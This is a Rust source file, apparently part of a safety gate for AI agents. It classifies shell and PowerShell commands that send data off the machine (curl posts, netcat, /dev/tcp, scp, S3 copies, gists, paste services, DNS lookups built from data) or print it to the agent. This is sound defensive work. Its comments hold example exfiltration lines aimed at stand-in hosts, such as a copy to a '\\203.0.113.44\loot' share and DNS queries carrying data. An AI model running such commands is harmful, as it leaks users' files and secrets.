//! Taint sinks: commands that send what they read off the machine (network clients, copies
//! to other hosts and buckets, gists, paste services), and commands that print it where the
//! agent reads it ([`prints`]).

use riskgate_shell::SimpleCommand;

use super::{pos, raw};

fn is_local(host: &str) -> bool {
    host.contains("localhost") || host.contains("127.0.0.1") || host.contains("[::1]")
}

/// The host of a UNC path (`\\host\share\…`, `//host/share/…`), not a device path
/// (`\\.\PhysicalDrive0`, `\\?\…`).
pub(crate) fn unc_host(path: &str) -> Option<&str> {
    let rest = path
        .strip_prefix("\\\\")
        .or_else(|| path.strip_prefix("//"))?;
    let host = rest.split(['\\', '/']).next()?;
    (!host.is_empty() && host != "." && host != "?" && !host.contains(['$', '*'])).then_some(host)
}

/// Whether `c` sends what it read over the network: (the destination, reads stdin).
pub(super) fn sink(c: &SimpleCommand) -> Option<(String, bool)> {
    let raws: Vec<&str> = raw(c).collect();
    let url = raws
        .iter()
        .find(|t| t.contains("://"))
        .map(|s| s.to_string());
    // run by `xargs`/`parallel`, the command's input becomes its words (`… | xargs -I{} dig
    // {}.x.example`): it sends what it is fed
    let fed_words = c
        .wrappers
        .iter()
        .any(|w| matches!(w.name.as_str(), "xargs" | "parallel"));
    let stdin_marker = fed_words
        || raws
            .iter()
            .any(|t| *t == "-" || t.ends_with("@-") || *t == "@-" || *t == "-T-");
    let dest = match c.program.as_str() {
        "curl" | "http" | "https" | "xh" => {
            let sends = raws.iter().any(|t| {
                t.starts_with("-d")
                    || t.starts_with("--data")
                    || t.starts_with("-F")
                    || t.starts_with("--form")
                    || t.starts_with("-T")
                    || t.starts_with("--upload-file")
                    || t.starts_with("--json")
            }) || url
                .as_deref()
                .is_some_and(|u| u.contains('$') || (fed_words && u.contains("{}")));
            if !sends {
                return None;
            }
            url.unwrap_or_default()
        }
        // PowerShell's web cmdlets send a body (`-Body`, `-InFile`, `-Form`), what the pipeline
        // passes them with a sending method, or data in the URL
        "Invoke-WebRequest" | "Invoke-RestMethod" => {
            let arg = |p: &str| {
                c.args
                    .iter()
                    .find_map(|a| a.text.strip_prefix(p).map(str::to_ascii_lowercase))
            };
            let method = arg("-Method=").unwrap_or_default();
            let sending = matches!(method.as_str(), "post" | "put" | "patch");
            let url = c.positionals().next().map(|w| w.text.clone()).or(url)?;
            let sends = sending
                || ["-Body=", "-InFile=", "-Form="]
                    .iter()
                    .any(|p| c.args.iter().any(|a| a.text.starts_with(p)))
                || url.contains('$');
            if !sends {
                return None;
            }
            if is_local(&url) {
                return None;
            }
            return Some((
                url,
                sending || c.args.iter().any(|a| a.text.starts_with("-Body=")),
            ));
        }
        // BITS uploads its source to a URL destination (`-TransferType Upload`)
        "Start-BitsTransfer" => {
            let dest = c.positionals().nth(1).map(|w| w.text.clone())?;
            let upload = c
                .args
                .iter()
                .any(|a| a.text.eq_ignore_ascii_case("-TransferType=Upload"));
            let local_source = c
                .positionals()
                .next()
                .is_some_and(|w| !w.text.contains("://"));
            if !dest.contains("://") || !(upload || local_source) {
                return None;
            }
            return (!is_local(&dest)).then_some((dest, false));
        }
        "Send-MailMessage" => {
            let to = c
                .args
                .iter()
                .find_map(|a| a.text.strip_prefix("-To="))
                .unwrap_or("a mail recipient");
            return Some((to.to_string(), true));
        }
        "wget" => {
            if !raws
                .iter()
                .any(|t| t.starts_with("--post-") || t.starts_with("--body-"))
            {
                return None;
            }
            url.unwrap_or_default()
        }
        "nc" | "ncat" | "netcat" | "socat" | "telnet" => {
            return c
                .positionals()
                .next()
                .map(|h| (h.text.clone(), true))
                .filter(|(h, _)| !is_local(h));
        }
        "scp" | "rsync" | "sftp" | "rclone" => {
            let remote = c
                .positionals()
                .last()
                .filter(|w| w.text.contains(':') && !w.text.starts_with('/'))?;
            remote.text.clone()
        }
        "aws" if pos(c, 0) == "s3" && matches!(pos(c, 1), "cp" | "mv" | "sync") => {
            let last = c.positionals().last()?;
            if !last.text.starts_with("s3://") {
                return None;
            }
            last.text.clone()
        }
        "gsutil" | "gcloud" | "s3cmd" | "azcopy" => {
            let last = c.positionals().last()?;
            if !(last.text.starts_with("gs://")
                || last.text.starts_with("s3://")
                || last.text.contains("://"))
            {
                return None;
            }
            last.text.clone()
        }
        "ssh" => c
            .remote
            .clone()
            .or_else(|| c.positionals().next().map(|w| w.text.clone()))?,
        "mail" | "mailx" | "sendmail" | "mutt" => c.positionals().last()?.text.clone(),
        // a DNS lookup of a name built from data (`dig $(…).x.example`, `xargs -I{} nslookup
        // {}.x.example`) carries the data to whoever serves that zone
        // a copy to a share on another host (`Copy-Item X \\203.0.113.44\loot\`, `copy X
        // \\host\c$\…`): the files leave the machine
        "Copy-Item" | "Move-Item" | "robocopy" | "xcopy" => {
            let dest = c
                .args
                .iter()
                .find_map(|a| a.text.strip_prefix("-Destination="))
                .map(str::to_string)
                .or_else(|| c.positionals().last().map(|w| w.text.clone()))?;
            let host = unc_host(&dest)?;
            // the items piped in are what it copies
            return (!is_local(host)).then(|| (dest.clone(), c.stdin.is_some()));
        }
        "dig" | "nslookup" | "host" | "drill" | "kdig" | "delv" | "ping" | "resolvectl"
        | "Resolve-DnsName" | "Test-Connection" | "Test-NetConnection" => {
            let name = c
                .positionals()
                .find(|w| w.text.contains('.') && !w.text.starts_with('@'))?;
            if !(fed_words || name.text.contains('$') || name.text.contains("{}")) {
                return None;
            }
            name.text.clone()
        }
        // Publishing: a gist, a release asset, a paste service, a one-off transfer.
        "gh" => match (pos(c, 0), pos(c, 1)) {
            ("gist", "create" | "edit") => {
                let public = raws.iter().any(|t| matches!(*t, "-p" | "--public"));
                if public {
                    "a public GitHub gist"
                } else {
                    "a GitHub gist"
                }
                .to_string()
            }
            ("release", "upload" | "create") => "a GitHub release".to_string(),
            _ => return None,
        },
        "glab" if matches!(pos(c, 0), "snippet") => "a GitLab snippet".to_string(),
        "pastebinit" | "wgetpaste" | "fpaste" | "ix" | "sprunge" | "termbin" | "0x0" => {
            format!("a paste service (`{}`)", c.program)
        }
        "wormhole" | "croc" | "ffsend" | "transfer" | "magic-wormhole"
            if raws.iter().any(|t| matches!(*t, "send" | "upload")) || c.program == "transfer" =>
        {
            format!("another machine (`{}`)", c.program)
        }
        _ => {
            if c.redirects
                .iter()
                .any(|r| r.target.text.starts_with("/dev/tcp/"))
            {
                return Some(("/dev/tcp".into(), true));
            }
            return None;
        }
    };
    if is_local(&dest) {
        return None;
    }
    let reads_stdin = stdin_marker
        || (c.program == "rclone" && pos(c, 0) == "rcat")
        || matches!(
            c.program.as_str(),
            "ssh" | "mail" | "mailx" | "sendmail" | "mutt" | "pastebinit" | "wgetpaste" | "fpaste"
        );
    Some((dest, reads_stdin))
}

/// Whether `c` only lists what an archive or a dump holds (`pg_restore --list`, `tar -t`,
/// `unzip -l`): its output names the entries, not their content, so no data flows on.
pub(super) fn lists_only(c: &SimpleCommand) -> bool {
    let has = |names: &[&str]| raw(c).any(|t| names.contains(&t));
    let short = |letter: char| {
        raw(c).any(|t| {
            t.starts_with('-')
                && !t.starts_with("--")
                && t[1..].chars().all(|ch| ch.is_ascii_alphabetic())
                && t.contains(letter)
        })
    };
    match c.program.as_str() {
        "pg_restore" => has(&["--list"]) || short('l'),
        "tar" | "bsdtar" => has(&["--list"]) || short('t'),
        "unzip" => short('l') || short('Z'),
        "zipinfo" | "lsar" => true,
        "7z" | "7za" | "7zz" => c.positionals().next().is_some_and(|w| w.text == "l"),
        "gzip" | "xz" | "zstd" => has(&["--list"]) || short('l'),
        // a file's size, metadata, counts or checksum: none of its data
        "du" | "stat" | "ls" | "file" | "wc" | "md5sum" | "sha1sum" | "sha256sum" | "sha512sum"
        | "b2sum" | "cksum" | "test" | "[" | "touch" | "realpath" | "readlink" => true,
        // `jq length F`, `jq 'keys' F`: how many, or which keys, not the values
        "jq" => c
            .positionals()
            .next()
            .is_some_and(|w| matches!(w.text.trim(), "length" | "keys" | ". | length" | "type")),
        _ => false,
    }
}

/// Whether `c` prints the content it reads (to the terminal, which is the agent's context,
/// unless its output is redirected to a file).
pub(super) fn prints(c: &SimpleCommand) -> bool {
    let to_file = c.redirects.iter().any(|r| {
        let op = r.op.trim_start_matches('1');
        matches!(op, ">" | ">>" | ">|" | "&>" | "&>>") && r.target.text != "/dev/stderr"
    });
    if to_file {
        return false;
    }
    match c.program.as_str() {
        "cat" | "head" | "tail" | "less" | "more" | "bat" | "batcat" | "xxd" | "od" | "hexdump"
        | "strings" | "base64" | "base32" | "basenc" | "nl" | "tac" | "jq" | "yq" | "column"
        | "tee" | "zcat" | "bzcat" | "xzcat" | "zless" | "view" | "vis" | "awk" | "gawk"
        | "cut" | "sort" | "uniq" | "diff" | "paste" | "fold" | "fmt" | "pr" | "rev" => true,
        "grep" | "egrep" | "fgrep" | "rg" | "ag" => !raw(c).any(|t| {
            t.starts_with('-')
                && !t.starts_with("--")
                && (t.contains('l') || t.contains('c') || t.contains('q') || t.contains('L'))
                || matches!(
                    t,
                    "--files-with-matches" | "--count" | "--quiet" | "--silent"
                )
        }),
        "sed" => !raw(c).any(|t| t.starts_with("-i") || t.starts_with("--in-place")),
        "openssl" => raw(c).any(|t| t == "-text" || t == "base64"),
        "gpg" | "gpg2" => raw(c).any(|t| t == "-d" || t == "--decrypt"),
        _ => false,
    }
}
